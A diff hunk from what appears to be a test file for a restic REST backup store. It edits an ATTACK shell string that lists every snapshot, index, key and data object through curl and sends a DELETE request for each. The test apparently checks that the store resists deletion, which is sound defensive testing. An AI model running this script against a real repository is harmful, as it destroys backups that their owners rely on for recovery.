@@ -248,9 +248,9 @@ def test_a_restore_point_is_taken_and_pulled_and_the_minions_say_so(production):
 
 #: Removes every file of the repository that the store lists, and says what the store answers.
 ATTACK = """
-export NO_PROXY='*'
+v2='Accept: application/vnd.x.restic.rest.v2'
 for kind in snapshots index keys data; do
-  for name in $(echo "url = {url}/$kind/" | curl -s -K - | grep -oE '[0-9a-f]{{64}}'); do
+  for name in $(echo "url = {url}/$kind/" | curl -s -H "$v2" -K - | grep -oE '[0-9a-f]{{64}}'); do
     echo "url = {url}/$kind/$name" | curl -s -o /dev/null -w '%{{http_code}}\\n' -X DELETE -K -
   done
 done
